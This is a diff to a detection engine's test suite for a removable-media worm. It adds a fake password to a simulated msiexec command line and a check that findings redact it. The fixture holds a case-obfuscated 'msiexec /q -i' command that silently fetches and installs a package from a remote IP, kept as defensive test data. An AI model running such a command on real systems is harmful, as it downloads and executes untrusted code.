@@ -206,7 +206,7 @@ describe.each(ENGINES)("removable-media-worm: $name", (engine) => {
         CurrentDirectory: "E:\\",
       }),
       start(at(52), "msi", "C:\\Windows\\System32\\msiexec.exe", {
-        CommandLine: "MSIexEC /q -i hTtP://198.51.100.7:8080/kQx2/WS-01=anna",
+        CommandLine: "MSIexEC /q -i hTtP://198.51.100.7:8080/kQx2/WS-01=anna PASSWORD=Hunter2",
         ParentProcessGuid: uid("cmd"),
         ParentImage: "C:\\Windows\\System32\\cmd.exe",
       }),
@@ -215,6 +215,7 @@ describe.each(ENGINES)("removable-media-worm: $name", (engine) => {
       severity: "medium",
       facts: { program: "e:\\qwrp.chk", signs: ["fed", "fetches"] },
     });
+    expect(JSON.stringify(findings)).not.toContain("Hunter2");
   });
 
   it.each([
